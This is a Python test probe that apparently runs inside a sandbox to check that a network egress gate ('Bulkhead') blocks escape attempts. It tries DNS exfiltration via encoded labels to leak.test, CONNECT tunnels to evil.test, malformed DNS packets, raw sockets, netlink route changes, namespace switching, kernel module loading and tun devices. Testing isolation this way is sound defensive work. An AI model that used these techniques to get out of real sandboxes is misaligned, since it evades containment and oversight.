"""Runs inside the box: probe.py GROUP LABEL tries each case of the group and prints one JSON line for each: what was answered, with which reason, and
which of the gate's flows it used (they are counted as they are opened, one by one, so the record can be searched by them)."""
import base64, json, os, re, socket, ssl, struct, sys, threading, time

import cases
from cases import EOF

WAIT = 5          # for an answer
flows = 0         # connections that an entrance has accepted so far
addresses = {}    # what the box's name server said


class Ended(Exception):
    """The attempt is over before it got so far; its argument is the answer."""


# ---- DNS ----

KINDS = dict(A=1, NS=2, CNAME=5, SOA=6, NULL=10, PTR=12, MX=15, TXT=16, AAAA=28, SRV=33, SVCB=64, HTTPS=65, AXFR=252, ANY=255, TYPE65399=65399)
CLASSES = dict(IN=1, CH=3, HS=4, ANYCLASS=255)
RCODES = {1: "formerr", 2: "servfail", 3: "nxdomain", 4: "notimp", 5: "refused"}


def wire_name(name):
    """As a stub resolver would write it, also where no label may look like this."""
    name = name if isinstance(name, bytes) else name.encode()
    labels = (name[:-1] if name.endswith(b".") else name).split(b".")
    return b"".join(bytes([min(len(l), 255)]) + l for l in labels) + b"\0"


def question(name, kind="A", group="IN", how=None):
    body = wire_name(name) + struct.pack(">HH", KINDS[kind], CLASSES[group])
    flags, counts, tail = 0x0100, [1, 0, 0, 0], b""
    opt = b"\0\0\x29\x10\0\0\0\0\0\0\0"
    if how == "response":
        flags |= 0x8000
    elif how in ("status", "notify", "update"):
        flags |= {"status": 2, "notify": 4, "update": 5}[how] << 11
    elif how == "two questions":
        counts[0], tail = 2, wire_name(b"evil.test") + b"\0\1\0\1"
    elif how == "no question":
        counts[0], body = 0, b""
    elif how == "pointer":
        body = b"\x07allowed\xc0\x0c\0\1\0\1"
    elif how == "pointer loop":
        body = b"\xc0\x0c\0\1\0\1"
    elif how == "trailing bytes":
        tail = b"evil"
    elif how == "answers":
        counts[1], tail = 1, b"\xc0\x0c\0\1\0\1\0\0\0\0\0\4\1\2\3\4"
    elif how == "header only":
        body = b""
    elif how == "dot in a label":
        body = b"\x0callowed.test\0\0\1\0\1"
    elif how == "EDNS version 1":
        counts[3], tail = 1, b"\0\0\x29\x10\0\0\1\0\0\0\0"
    elif how == "two OPT":
        counts[3], tail = 2, opt + opt
    elif how == "root":
        body = b"\0\0\1\0\1"
    packet = struct.pack(">HHHHHH", os.getpid() & 0xffff, flags, *counts) + body + tail
    return packet[:6] if how == "half a header" else packet


def receive_exactly(s, n):
    data = b""
    while len(data) < n:
        more = s.recv(n - len(data))
        if not more:
            raise Ended("silence")
        data += more
    return data


def ask(via, packet, wait=WAIT):
    """The reply, or Ended("silence")."""
    family, server = (socket.AF_INET6, "::1") if via == "dns6" else (socket.AF_INET, "127.0.0.1")
    with socket.socket(family, socket.SOCK_STREAM if via == "dnstcp" else socket.SOCK_DGRAM) as s:
        try:
            s.settimeout(wait)
            s.connect((server, 53))
            if via != "dnstcp":
                s.send(packet)
                return s.recv(65536)
            s.sendall(struct.pack(">H", len(packet)) + packet)
            s.shutdown(socket.SHUT_WR)
            return receive_exactly(s, struct.unpack(">H", receive_exactly(s, 2))[0])
        except OSError:
            raise Ended("silence")


def read_reply(packet, reply):
    if reply[:2] != packet[:2] or not reply[2] & 0x80:
        return "not an answer"
    rcode, answers = reply[3] & 15, struct.unpack(">H", reply[6:8])[0]
    if reply[10:12] == b"\0\1":
        rcode |= reply[-6] << 4
    if rcode == 16:
        return "badvers"
    if rcode:
        return RCODES.get(rcode, f"rcode {rcode}") + (" with answers" if answers else "")
    if answers == 0:
        return "empty"
    kind = struct.unpack(">H", reply[len(packet) + 2:len(packet) + 4])[0]
    data = reply[len(packet) + 12:]
    if kind == 12:
        return "ptr"
    address = socket.inet_ntop(socket.AF_INET6 if kind == 28 else socket.AF_INET, data[:16 if kind == 28 else 4])
    if address in ("127.0.0.1", "::1"):
        return "box"
    return "synthetic" if re.match(r"198\.1[89]\.|fd00:b011:4ead:", address) else "leaked " + address


def run_dns(case):
    packet = question(case.host, *case.args)
    return read_reply(packet, ask(case.via, packet, 0.3 if case.want == "silence" else WAIT))


# ---- connections ----

def connect(family, address, port):
    """A connection to an entrance: the next flow of the gate."""
    global flows
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(WAIT)
    try:
        s.connect((address, port))
    except OSError as problem:
        s.close()
        raise Ended("refused" if isinstance(problem, ConnectionRefusedError) else "unreachable")
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    flows += 1
    return s


def synthetic(name, family):
    if (name, family) not in addresses:
        addresses[name, family] = socket.getaddrinfo(name, None, family, socket.SOCK_STREAM)[0][4][0]
    return addresses[name, family]


def enter(via, host, port):
    if via in ("proxy", "proxy6"):
        return connect(*((socket.AF_INET6, "::1") if via == "proxy6" else (socket.AF_INET, "127.0.0.1")), 3128)
    if via == "address":
        return connect(socket.AF_INET6 if ":" in host else socket.AF_INET, host, port)
    family = socket.AF_INET6 if via == "name6" else socket.AF_INET
    try:
        return connect(family, synthetic(host, family), port)
    except socket.gaierror:
        raise Ended("unknown")


def say(s, parts, path):
    """The other side may refuse before it has heard all."""
    try:
        for part in parts:
            if part == EOF:
                s.shutdown(socket.SHUT_WR)
            elif isinstance(part, float):
                time.sleep(part)
            else:
                s.sendall(part.replace(b"%PATH%", path))
    except OSError:
        pass


def hear(s, last=None):
    """To the end, or until the first bytes of TLS, or the bytes `last`."""
    data = b""
    try:
        while not (last and data.endswith(last)) and not (len(data) > 6 and data[0] == 0x16):
            more = s.recv(65536)
            if not more:
                break
            data += more
    except socket.timeout:
        return data, "timeout"
    except OSError:
        return data, "reset"
    return data, "end"


def classify(data, end):
    """(answer, reason)"""
    if not data:
        return ("timeout" if end == "timeout" else "closed"), None
    if data == b"\x15\x03\x03\0\x02\x02\x31":
        return "alert", None
    told = re.search(rb"\r\nBulkhead-Reason: ([a-z0-9_]+)\r\n", data)
    if not told:
        return "server", None
    reason = told.group(1).decode()
    status = data[9:12].decode()
    body = data.split(b"\r\n\r\n", 1)[1].decode("utf-8", "replace")
    if f"reason: {reason}" not in body or "Bulkhead: policy" not in body or not re.search(r"\r\nContent-Length: %d\r\n" % len(body.encode()), data.decode("utf-8", "replace")):
        return "incomplete refusal", reason
    return status, reason


def tunnel(s, to):
    """Asks the proxy. What it refuses ends the attempt."""
    s.sendall(f"CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n".encode())
    data = b""
    while b"\r\n\r\n" not in data:
        more = s.recv(1)
        if not more:
            raise Ended("no tunnel: closed")
        data += more
    if not data.startswith(b"HTTP/1.1 200 "):
        raise Ended("no tunnel: " + data.split(b"\r\n")[0].decode("latin-1"))


def run_tcp(case, path):
    with enter(case.via, case.host, case.port) as s:
        if case.connect:
            tunnel(s, case.connect)
        speaker = threading.Thread(target=say, args=(s, case.say, path), daemon=True)
        speaker.start()
        if case.connect is None and case.via.startswith("proxy") and case.say[0].startswith(b"CONNECT ") and case.want != "403":
            # the tunnel's answer comes first when CONNECT was among what was said
            head = b""
            while b"\r\n\r\n" not in head:
                more = s.recv(1)
                if not more:
                    break
                head += more
            if not head.startswith(b"HTTP/1.1 200 "):
                return classify(head + hear(s)[0], "end"), head
        data, end = hear(s, case.echo if case.say[-1] != EOF else None)
        speaker.join()
        if data.startswith(b"HTTP/1.1 200 Connection established\r\n\r\n"):
            data = data.split(b"\r\n\r\n", 1)[1]
        if case.echo is not None and not data.endswith(case.echo):
            return ("server, but not what was sent", None), data
        return classify(data, end), data


# ---- other ways: each gives an answer; "nowhere" is what is hoped for ----

def family_of(address):
    try:
        socket.inet_pton(socket.AF_INET6, address)
        return socket.AF_INET6
    except (OSError, ValueError):
        return socket.AF_INET


def do_dial(case):
    """Straight to the address, in whatever spelling the C library takes."""
    try:
        found = socket.getaddrinfo(case.host, case.port, 0, socket.SOCK_STREAM, 0, socket.AI_NUMERICHOST)
    except (OSError, UnicodeError, ValueError):
        return "nowhere"
    for family, kind, protocol, _, address in found:
        with socket.socket(family, kind, protocol) as s:
            s.settimeout(1)
            try:
                s.connect(address)
                if address[1] == 53 and (address[0].startswith("127.") or address[0] in ("0.0.0.0", "::", "::1", "::ffff:127.0.0.1", "::ffff:0.0.0.0")):
                    return "nowhere"  # the box's own name server
                return f"connected to {address[0]}"
            except socket.timeout:
                return "something swallowed it"
            except OSError:
                pass
    return "nowhere"


def do_dial_name(case):
    return do_dial_at(synthetic(case.host, socket.AF_INET), case.port)


def do_dial_at(address, port):
    try:
        connect(family_of(address), address, port).close()
        return "connected"
    except Ended:
        return "nowhere"


def do_udp(case):
    with socket.socket(family_of(case.host), socket.SOCK_DGRAM) as s:
        s.settimeout(0.2)
        try:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(question(b"evil.test"), (case.host, case.port))
            s.recv(1000)
            return "answered"
        except OSError:
            return "nowhere"


def netlink(kind, payload):
    """Asks the kernel to change the network; 0 means that it did."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.settimeout(1)
        s.bind((0, 0))
        s.send(struct.pack("=IHHII", 16 + len(payload), kind, 0x605, 1, 0) + payload)
        return struct.unpack("=i", s.recv(4096)[16:20])[0]


def way_out(what):
    """Tries it; returning means that it could be had."""
    tcp, udp, raw = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
    sockets = {"raw socket": (socket.AF_INET, raw, socket.IPPROTO_RAW), "raw IPv6 socket": (socket.AF_INET6, raw, socket.IPPROTO_RAW),
               "packet socket": (socket.AF_PACKET, raw, 0x300), "vsock": (40, tcp, 0), "sctp": (socket.AF_INET, tcp, 132), "dccp": (socket.AF_INET, 6, 33),
               "tipc": (30, udp, 0), "bluetooth": (31, raw, 1), "alg": (38, 5, 0), "can": (29, raw, 1), "x25": (9, 5, 0)}
    if what in sockets:
        socket.socket(*sockets[what]).close()
    elif what in ("ping socket", "ping to the host"):
        with socket.socket(socket.AF_INET, udp, socket.IPPROTO_ICMP) as s:
            s.settimeout(0.2)
            s.sendto(b"\x08\0\0\0\0\1\0\1ping", ("11.1.1.2" if what == "ping to the host" else "8.8.8.8", 0))
            s.recv(100)
    elif what == "mptcp to the host":
        with socket.socket(socket.AF_INET, tcp, 262) as s:
            s.connect(("11.1.1.2", 80))
    elif what == "route":
        gateway = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
        if netlink(24, gateway):
            raise OSError
    elif what == "address":
        if netlink(20, struct.pack("=BBBBI", 2, 24, 0, 0, 1) + struct.pack("=HH4s", 8, 2, b"\x0b\1\1\7") + struct.pack("=HH4s", 8, 1, b"\x0b\1\1\7")):
            raise OSError
    elif what == "io_uring":
        import ctypes
        if ctypes.CDLL(None, use_errno=True).syscall(425, 4, ctypes.create_string_buffer(120)) < 0:
            raise OSError
    elif what == "other interface":
        with socket.socket(socket.AF_INET, udp) as s:
            s.setsockopt(socket.SOL_SOCKET, 25, b"va\0")
            s.sendto(b"x", ("11.1.1.2", 53))
    elif what == "other namespace":
        os.stat("/proc/1/ns/net")
        import ctypes
        fd = os.open("/proc/1/ns/net", os.O_RDONLY)
        if ctypes.CDLL(None).setns(fd, 0x40000000) < 0:
            raise OSError
    elif what == "source routing":
        with socket.socket(socket.AF_INET, udp) as s:
            s.setsockopt(socket.IPPROTO_IP, 4, b"\x83\x07\x04\x0b\1\1\2\0")
            s.sendto(b"x", ("8.8.8.8", 53))
    elif what == "tcp fast open":
        with socket.socket(socket.AF_INET, tcp) as s:
            s.sendto(b"x", 0x20000000, ("11.1.1.2", 80))
    elif what == "kernel module":
        import ctypes
        if ctypes.CDLL(None).syscall(313, -1, b"", 0) < 0:
            raise OSError
    elif what == "tun":
        os.open("/dev/net/tun", os.O_RDWR)
    else:
        raise ValueError(what)


def do_way(case, what):
    try:
        way_out(what)
        return "open"
    except OSError:
        return "nowhere"


def do_interfaces(case):
    return ",".join(sorted(name for _, name in socket.if_nameindex()))


def do_unix(case, address):
    if address[0] == "/" and not os.path.lexists(address):
        return f"{address} isn't there to be tried"
    with socket.socket(socket.AF_UNIX) as s:
        try:
            s.connect(address)
            return "connected"
        except OSError:
            return "nowhere"


def do_listeners(case):
    """Ports of loopback that something listens at; names that were looked up have addresses of their own."""
    ports = set()
    for kind, state in (("tcp", "0A"), ("tcp6", "0A"), ("udp", "07"), ("udp6", "07")):
        for line in open("/proc/net/" + kind).readlines()[1:]:
            address, port = line.split()[1].split(":")
            if line.split()[3] == state and address in ("0100007F", "00000000", "0" * 32, "0" * 24 + "01000000"):
                ports.add((kind[:3], int(port, 16)))
    return " ".join(f"{kind} {port}" for kind, port in sorted(ports))


def do_lookup(case):
    try:
        return "found " + socket.getaddrinfo(case.host, 80)[0][4][0]
    except OSError:
        return "unknown"


def do_exfiltrate(case, count):
    answers = set()
    for i in range(count):
        label = base64.b32encode(os.urandom(35)).decode().rstrip("=").lower()
        packet = question(f"{label[:50]}.{i}.leak.test")
        answers.add(read_reply(packet, ask("dns", packet)))
    return ",".join(sorted(answers))


def do_sleep(case, seconds):
    time.sleep(seconds)
    return "open"


def do_relay(case):
    """A program of the box passes bytes on to the proxy: the decision doesn't depend on who connects."""
    listener = socket.create_server(("127.0.0.1", 0))

    def relay():
        client, _ = listener.accept()
        proxy = enter("proxy", None, None)
        proxy.sendall(client.recv(65536))
        for data in iter(lambda: proxy.recv(65536), b""):
            client.sendall(data)
        client.close()
    threading.Thread(target=relay, daemon=True).start()
    with socket.create_connection(listener.getsockname(), WAIT) as s:
        s.sendall(b"CONNECT evil.test:443 HTTP/1.1\r\n\r\n")
        return classify(*hear(s))


def do_https(case, via):
    """A whole exchange as a client would have it, certificate checked where the host has a name."""
    context = ssl.create_default_context(cafile=os.environ["TEST_CA"])
    named = family_of(case.host) == socket.AF_INET and not case.host[0].isdigit()
    context.check_hostname = named
    context.verify_mode = ssl.CERT_REQUIRED if named else ssl.CERT_NONE
    shown = f"[{case.host}]" if ":" in case.host else case.host
    with enter(via, case.host, case.port) as s:
        if via == "proxy":
            tunnel(s, f"{shown}:{case.port}")
        with context.wrap_socket(s, server_hostname=case.host if named else None) as t:
            t.sendall(f"GET {case.path} HTTP/1.1\r\nHost: {shown}\r\nConnection: close\r\n\r\n".encode())
            data = b""
            for more in iter(lambda: t.recv(65536), b""):
                data += more
    return "server" if b'"path": "%s"' % case.path.encode() in data else "not the server: %r" % data[:100]


def do_bulk(case, via, size):
    block = bytes(range(256)) * 256
    with enter_by(via, case) as s:
        def send():
            for at in range(0, size, len(block)):
                s.sendall(block[:min(len(block), size - at)])
            s.shutdown(socket.SHUT_WR)
        threading.Thread(target=send, daemon=True).start()
        at, wrong = 0, False
        for data in iter(lambda: s.recv(1 << 18), b""):
            start = at % 65536
            wrong = wrong or (block * (len(data) // 65536 + 2))[start:start + len(data)] != data
            at += len(data)
    return "server" if at == size and not wrong else f"{at} bytes back, {'changed' if wrong else 'unchanged'}"


def do_many(case, count):
    open_ones = [enter("name", "allowed.test", 7) for _ in range(count)]
    for i, s in enumerate(open_ones):
        s.sendall(b"%04d\n" % i)
    answers = [receive_exactly(s, 5) for s in open_ones]
    for s in open_ones:
        s.close()
    return "server" if answers == [b"%04d\n" % i for i in range(count)] else f"mixed up: {answers}"


held = []


def do_hold(case, count):
    for _ in range(count):
        s = enter("name", "allowed.test", 7)
        s.sendall(b"held\n")
        if receive_exactly(s, 5) != b"held\n":
            return "closed"
        held.append(s)
    return "server"


def do_release(case, count):
    for _ in range(count):
        s = held.pop()
        s.shutdown(socket.SHUT_WR)
        while s.recv(100):  # its end has passed through the gate, which then gives the connection back
            pass
        s.close()
    return "open"


def enter_by(via, case):
    s = enter(via, case.host, case.port)
    if via == "proxy":
        tunnel(s, f"{case.host}:{case.port}")
    return s


def do_send(case, via, size):
    with enter_by(via, case) as s:
        try:
            s.sendall(b"x" * size)
            s.shutdown(socket.SHUT_WR)
            s.recv(1)
        except OSError:
            pass
    return "cut"


def do_fetch(case, via, size):
    """What arrives is printed for the suite, which compares it with the record."""
    with enter_by(via, case) as s:
        s.sendall(b"GET /big/%d HTTP/1.1\r\nHost: allowed.test\r\n\r\n" % size)
        data, _ = hear(s)
    print("received", len(data))
    return "cut" if len(data) < size else "all of it"


# ---- one by one ----

def run(case, path):
    if case.via.startswith("dns"):
        return run_dns(case), None, ""
    if case.via == "do":
        answer = globals()["do_" + case.args[0].replace(" ", "_")](case, *case.args[1:])
        return (*answer, "") if isinstance(answer, tuple) else (answer, None, "")
    (answer, reason), data = run_tcp(case, path.encode())
    got = data.decode("latin-1").partition("\r\n\r\n")[2] if case.lacks else ""
    return answer, reason, got


def main(group, label):
    for n, case in enumerate(cases.cases(group)):
        case.path = f"/{label}-{n}"
        before, began = flows, time.monotonic()
        try:
            answer, reason, got = run(case, case.path)
        except Ended as end:
            answer, reason, got = str(end), None, ""
        except Exception as problem:
            answer, reason, got = f"{type(problem).__name__}: {problem}", None, ""
        print(json.dumps(dict(n=n, answer=answer, reason=reason, got=got, flows=[before + 1, flows], ms=int((time.monotonic() - began) * 1000))), flush=True)


main(*sys.argv[1:3])
